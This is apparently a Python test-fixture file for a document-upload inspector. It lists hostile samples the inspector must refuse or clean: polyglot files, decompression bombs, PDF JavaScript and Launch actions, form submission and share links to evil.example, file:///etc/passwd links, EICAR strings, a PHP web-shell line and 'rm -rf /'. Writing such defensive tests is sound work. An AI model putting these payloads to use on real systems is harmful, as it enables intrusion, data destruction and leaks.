"""Hostile files, each with the cause for which it is refused. `CLEANED` are taken, and come out harmless."""

import gzip
import zlib

from PIL import Image

from coalition.uploads.inspector.verdict import Cause
from tests.uploads.disguises import DISGUISED
from tests.uploads.files import (
    PLAIN_PDF,
    QUICKLY,
    annotation,
    bmp_bomb,
    chunk,
    crowd,
    deep_page_tree,
    encrypted,
    flate,
    gif_bomb,
    image,
    many_pages,
    nested,
    object_stream,
    pdf,
    png,
    stream,
    webp_header,
    xref_loop,
    zip_of,
)

MEBIBYTE = 1024 * 1024
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
PHP = b"<?php system($_GET['c']); ?>"
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LAUNCH = b"<< /S /Launch /F (cmd.exe) >>"
DOCX = zip_of(**{"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})
ODT = zip_of(mimetype=b"application/vnd.oasis.opendocument.text", **{"META-INF/manifest.xml": b"<m/>"})


BOMB = b"\0" * (80 * MEBIBYTE)
DEFLATED = zlib.compress(BOMB, QUICKLY)
ATTACHED = flate(b"MZ", b"/Type /EmbeddedFile ")
FILE = b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"
ICC_WITH_SCRIPT = HTML * 3

POLYGLOTS = {
    "gif and javascript": (b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)", Cause.OTHER_IMAGE),
    "pdf then zip": (PLAIN_PDF + zip_of(a=b"x"), Cause.TWO_FILES_IN_ONE),
    "zip then pdf": (zip_of(a=b"x") + PLAIN_PDF, Cause.TWO_FILES_IN_ONE),
    "zip inside pdf": (pdf(stream(zip_of(a=b"x"))), Cause.TWO_FILES_IN_ONE),
    "zip ended by a second end of pdf": (PLAIN_PDF + zip_of(a=b"x") + b"\n%%EOF", Cause.TWO_FILES_IN_ONE),
    "pdf then html": (PLAIN_PDF + HTML, Cause.TWO_FILES_IN_ONE),
    "html then pdf": (HTML + PLAIN_PDF, Cause.TWO_FILES_IN_ONE),
    "html in the head of a pdf": (PLAIN_PDF.replace(b"\n", b"\n%<html onclick=x>\n", 1), Cause.TWO_FILES_IN_ONE),
    "script in a comment of a pdf": (pdf(stream(b"<script>alert(1)</script>")), Cause.TWO_FILES_IN_ONE),
    "pdf then php": (PLAIN_PDF + PHP, Cause.TWO_FILES_IN_ONE),
    "program then pdf": (b"MZ" + b"\0" * 60 + PLAIN_PDF, Cause.TWO_FILES_IN_ONE),
    "pdf then program": (PLAIN_PDF + b"MZ\x90\0" * 30, Cause.TWO_FILES_IN_ONE),
}
BOMBS = {
    "png of 60,000 pixels square": (png(width=60000, height=60000), Cause.TOO_MANY_PIXELS),
    "png with a bomb of a text": (png(chunk(b"zTXt", b"a\0\0" + DEFLATED)), Cause.BROKEN_IMAGE),
    "jpeg of 65,500 pixels square": (
        image("JPEG").replace(b"\x00\x1e\x00\x28", b"\xff\xdc\xff\xdc", 1),
        Cause.TOO_MANY_PIXELS,
    ),
    "webp of 16,384 pixels square": (webp_header(16384, 16384), Cause.TOO_MANY_PIXELS),
    "gif of 65,535 pixels square": (gif_bomb(), Cause.OTHER_IMAGE),
    "bmp of 60,000 pixels square": (bmp_bomb(), Cause.OTHER_IMAGE),
    "tiff": (b"II*\0\x08\0\0\0" + b"\xff" * 200, Cause.OTHER_IMAGE),
    "pdf with a page that inflates to 80 MB": (pdf(_4=flate(BOMB)), Cause.TOO_COMPLEX),
    "pdf with many streams of 50 MB": (pdf(*[flate(BOMB[: 50 * MEBIBYTE])] * 6), Cause.TOO_COMPLEX),
    "pdf with a stream deflated twice": (pdf(nested(BOMB, 2)), Cause.TOO_COMPLEX),
    "pdf with a stream deflated nine times": (pdf(nested(BOMB, 9)), Cause.TOO_COMPLEX),
    "pdf with a run-length bomb": (
        pdf(stream(b"\x81\0" * 600_000 + b"\x80", b"/Filter /RunLengthDecode ")),
        Cause.TOO_COMPLEX,
    ),
    "pdf with an image of 60,000 pixels square": (
        pdf(flate(b"", b"/Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 1 /ColorSpace /DeviceGray ")),
        Cause.TOO_COMPLEX,
    ),
    "pdf with an image larger than it says": (
        pdf(flate(BOMB, b"/Subtype /Image /Width 10 /Height 10 /BitsPerComponent 8 /ColorSpace /DeviceRGB ")),
        Cause.TOO_COMPLEX,
    ),
    "pdf with an object stream of 80 MB": (
        object_stream(b"5 0 " + b"[" + b" " * (80 * MEBIBYTE) + b"]", 4, 1),
        Cause.TOO_COMPLEX,
    ),
    "pdf with arrays 1,000 deep": (pdf(b"[" * 1000 + b"]" * 1000), Cause.TOO_COMPLEX),
    "pdf of many objects": (crowd(310_000), Cause.TOO_COMPLEX),
    "pdf with a deep page tree": (deep_page_tree(2000), Cause.TOO_COMPLEX),
    "pdf with 101 pages": (many_pages(101), Cause.TOO_MANY_PAGES),
}
SCRIPTS = {
    "javascript by name": (pdf(JS, catalog=b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >> "), Cause.SCRIPT),
    "javascript on opening": (pdf(catalog=b"/OpenAction " + JS), Cause.SCRIPT),
    "javascript on closing": (pdf(catalog=b"/AA << /WC " + JS + b" >>"), Cause.SCRIPT),
    "javascript on a page": (pdf(page=b"/AA << /O " + JS + b" >>"), Cause.SCRIPT),
    "javascript on a link": (annotation(b"/Subtype /Link /A " + JS), Cause.SCRIPT),
    "javascript on a field": (
        pdf(b"<< /FT /Tx /T (a) /AA << /K " + JS + b" >> >>", catalog=b"/AcroForm << /Fields [5 0 R] >>"),
        Cause.SCRIPT,
    ),
    "javascript on a bookmark": (
        pdf(
            b"<< /First 6 0 R /Last 6 0 R >>",
            b"<< /Title (a) /Parent 5 0 R /A " + JS + b" >>",
            catalog=b"/Outlines 5 0 R",
        ),
        Cause.SCRIPT,
    ),
    "javascript after a harmless action": (
        annotation(b"/Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] /Next [" + JS + b"] >>"),
        Cause.SCRIPT,
    ),
    "javascript in a stream": (
        pdf(b"<< /S /JavaScript /JS 6 0 R >>", flate(b"app.alert(1)"), catalog=b"/OpenAction 5 0 R"),
        Cause.SCRIPT,
    ),
    "javascript spelt in hexadecimal": (
        pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
        Cause.SCRIPT,
    ),
    "javascript that nothing refers to": (pdf(JS), Cause.SCRIPT),
    "javascript as the matrix of a font": (
        pdf(b"<< /Type /Font /Subtype /Type1 /BaseFont /A /FontMatrix [1 2 3 4 5 (1\\); alert\\(1)] >>"),
        Cause.SCRIPT,
    ),
    "javascript in an object stream": (object_stream(b"5 0 " + JS, 4, 1), Cause.SCRIPT),
    "javascript outside the table": (
        PLAIN_PDF.replace(b"xref\n0", b"9 0 obj\n" + JS + b"\nendobj\nxref\n0"),
        Cause.SCRIPT,
    ),
    "javascript in a rendition": (annotation(b"/Subtype /Link /A << /S /Rendition /JS (x) >>"), Cause.SCRIPT),
    "javascript address": (
        annotation(b"/Subtype /Link /A << /S /URI /URI (java\\nscript:alert\\(1\\)) >>"),
        Cause.SCRIPT,
    ),
    "postscript in a picture": (pdf(stream(b"showpage", b"/Subtype /PS ")), Cause.SCRIPT),
    "javascript behind an owner's lock": (
        encrypted(pdf(catalog=b"/OpenAction " + JS), owner="x", user=""),
        Cause.SCRIPT,
    ),
}
REACHING = {
    "launch on opening": (pdf(catalog=b"/OpenAction " + LAUNCH), Cause.REACHES_OUT),
    "launch on a link": (
        annotation(b"/Subtype /Link /A << /S /#4caunch /Win << /F (cmd.exe) >> >>"),
        Cause.REACHES_OUT,
    ),
    "another file": (
        annotation(b"/Subtype /Link /A << /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>"),
        Cause.REACHES_OUT,
    ),
    "a file inside": (annotation(b"/Subtype /Link /A << /S /GoToE /D [0 /Fit] >>"), Cause.REACHES_OUT),
    "a form that is sent": (
        annotation(b"/Subtype /Widget /A << /S /SubmitForm /F (https://evil.example) >>"),
        Cause.REACHES_OUT,
    ),
    "data that are fetched": (annotation(b"/Subtype /Widget /A << /S /ImportData /F (a.fdf) >>"), Cause.REACHES_OUT),
    "a thread of another file": (annotation(b"/Subtype /Link /A << /S /Thread /F (b.pdf) /D 0 >>"), Cause.REACHES_OUT),
    "a file address": (annotation(b"/Subtype /Link /A << /S /URI /URI (file:///etc/passwd) >>"), Cause.REACHES_OUT),
    "a share's address": (
        annotation(b"/Subtype /Link /A << /S /URI /URI (\\\\\\\\evil.example\\\\x) >>"),
        Cause.REACHES_OUT,
    ),
    "a base address of files": (pdf(catalog=b"/URI << /Base (file:///c:/) >>"), Cause.REACHES_OUT),
    "contents in another file": (pdf(stream(b"", b"/F (//evil.example/x) ")), Cause.REACHES_OUT),
}
CARRYING = {
    "attached file": (
        pdf(ATTACHED, FILE, catalog=b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>"), Cause.ATTACHMENT,
    ),
    "attached to a page": (annotation(b"/Subtype /FileAttachment /FS (a)"), Cause.ATTACHMENT),
    "associated file": (pdf(ATTACHED, FILE, catalog=b"/AF [6 0 R]"), Cause.ATTACHMENT),
    "portfolio": (pdf(catalog=b"/Collection << /View /D >>"), Cause.ATTACHMENT),
    "attached stream alone": (pdf(ATTACHED), Cause.ATTACHMENT),
    "XFA": (pdf(stream(b"<xdp/>"), catalog=b"/AcroForm << /Fields [] /XFA 5 0 R >>"), Cause.XFA),
    "rich media": (annotation(b"/Subtype /RichMedia"), Cause.MULTIMEDIA),
    "film": (annotation(b"/Subtype /Movie"), Cause.MULTIMEDIA),
    "sound": (annotation(b"/Subtype /Link /A << /S /Sound >>"), Cause.MULTIMEDIA),
    "3D model": (annotation(b"/Subtype /3D /3DD 5 0 R"), Cause.MULTIMEDIA),
}  # fmt: skip
BROKEN = {
    "no byte": (b"", Cause.EMPTY),
    "10 MB and one byte": (PLAIN_PDF.ljust(10 * MEBIBYTE + 1), Cause.TOO_LARGE),
    "zeros": (b"\0" * 5000, Cause.UNKNOWN),
    "pdf header alone": (b"%PDF-1.7\n", Cause.BROKEN_PDF),
    "pdf cut in the middle": (PLAIN_PDF[:200], Cause.BROKEN_PDF),
    "pdf without its table": (PLAIN_PDF.replace(b"xref", b"xxxx"), Cause.BROKEN_PDF),
    "pdf with a table that loops": (xref_loop(), Cause.BROKEN_PDF),
    "pdf whose table is elsewhere": (PLAIN_PDF.replace(b"startxref\n", b"startxref\n9"), Cause.BROKEN_PDF),
    "pdf without a page": (pdf(_2=b"<< /Type /Pages /Kids [] /Count 1000000 >>"), Cause.NO_PAGES),
    "pdf with a circular page tree": (pdf(_2=b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"), Cause.BROKEN_PDF),
    "pdf whose catalog is a number": (pdf(_1=b"42"), Cause.BROKEN_PDF),
    "pdf whose pages are a stream": (pdf(_2=stream(b"x")), Cause.BROKEN_PDF),
    "pdf with a password": (encrypted(owner="x", user="y"), Cause.ENCRYPTED),
    "pdf with an unknown lock": (pdf(trailer=b"/ID [(a) (a)] /Encrypt << /Filter /Evil /V 9 /R 9 >>"), Cause.ENCRYPTED),
    "png header alone": (b"\x89PNG\r\n\x1a\n", Cause.BROKEN_IMAGE),
    "png cut in the middle": (image("PNG", size=(300, 300))[:90], Cause.BROKEN_IMAGE),
    "jpeg header alone": (b"\xff\xd8\xff\xe0", Cause.BROKEN_IMAGE),
    "jpeg cut in the middle": (image("JPEG", size=(300, 300))[:700], Cause.BROKEN_IMAGE),
    "webp header alone": (b"RIFF\x04\0\0\0WEBP", Cause.BROKEN_IMAGE),
    "moving webp": (image("WEBP", save_all=True, append_images=[Image.new("RGB", (40, 30))]), Cause.ANIMATED),
    "moving png": (image("PNG", save_all=True, append_images=[Image.new("RGB", (40, 30))]), Cause.ANIMATED),
}
STRANGERS = {
    "svg": (SVG, Cause.WEB_PAGE),
    "svg after a declaration": (b'\xef\xbb\xbf<?xml version="1.0"?>' + SVG, Cause.WEB_PAGE),
    "svgz": (gzip.compress(SVG, mtime=0), Cause.ARCHIVE),
    "html": (HTML, Cause.WEB_PAGE),
    "html after a text": (b"Hello <script>alert(1)</script>", Cause.WEB_PAGE),
    "php": (PHP, Cause.WEB_PAGE),
    "mail": (b"Received: from evil.example\r\nSubject: act\r\n\r\nHello", Cause.MAIL),
    "docx": (DOCX, Cause.OFFICE),
    "odt": (ODT, Cause.OFFICE),
    "doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, Cause.OFFICE),
    "rtf": (b"{\\rtf1\\ansi Act}", Cause.OFFICE),
    "postscript": (b"%!PS-Adobe-3.0\n(x) run", Cause.OFFICE),
    "zip": (zip_of(a=b"x"), Cause.ARCHIVE),
    "seven-zip": (b"7z\xbc\xaf\x27\x1c\0\x04", Cause.ARCHIVE),
    "windows program": (b"MZ\x90\0" + b"\0" * 60, Cause.PROGRAM),
    "linux program": (b"\x7fELF\x02\x01\x01", Cause.PROGRAM),
    "shell script": (b"#!/bin/sh\nrm -rf /", Cause.PROGRAM),
    "windows shortcut": (b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, Cause.PROGRAM),
    "mpeg": (b"\0\0\x01\xba" + b"\0" * 60, Cause.MEDIA),
    "mp4": (b"\0\0\0\x20ftypisom" + b"\0" * 60, Cause.MEDIA),
    "wav": (b"RIFF\x24\0\0\0WAVEfmt ", Cause.MEDIA),
    "heic": (b"\0\0\0\x20ftypheic" + b"\0" * 60, Cause.OTHER_IMAGE),
    "text": ("Délibération nº 12\n".encode(), Cause.TEXT),
    "text in UTF-16": ("Act".encode("utf-16"), Cause.TEXT),
    "noise": (bytes(range(128, 256)) * 9, Cause.UNKNOWN),
    "test virus": (EICAR, Cause.MALWARE),
    "test virus as a text of a png": (png(chunk(b"tEXt", b"a\0" + EICAR)), Cause.MALWARE),
    "test virus in a pdf": (pdf(stream(EICAR)), Cause.MALWARE),
    "test virus deflated in a pdf": (pdf(flate(b"x" * (MEBIBYTE - 10) + EICAR)), Cause.MALWARE),
    "test virus in hexadecimal in a pdf": (
        pdf(stream(EICAR.hex().encode() + b">", b"/Filter /ASCIIHexDecode ")), Cause.MALWARE,
    ),
}  # fmt: skip
REFUSED = POLYGLOTS | BOMBS | SCRIPTS | REACHING | CARRYING | DISGUISED | BROKEN | STRANGERS
CLEANED = {
    "png that inflates for ever": png(width=5000, height=5000, pixels=b"\0" * (300 * MEBIBYTE)),
    "png with php behind it": image("PNG") + PHP,
    "png with php as its text": png(chunk(b"tEXt", b"Comment\0" + PHP)),
    "png with a bomb behind it": image("PNG") + DEFLATED,
    "jpeg with html behind it": image("JPEG") + HTML,
    "jpeg with html as its comment": image("JPEG", comment=HTML),
    "jpeg with html as its profile": image("JPEG", icc_profile=ICC_WITH_SCRIPT),
    "jpeg with a zip behind it": image("JPEG") + zip_of(a=b"x"),
    "jpeg with a pdf behind it": image("JPEG") + pdf(catalog=b"/OpenAction " + JS),
    "webp with javascript behind it": image("WEBP") + b"/*<script>alert(1)</script>*/",
}
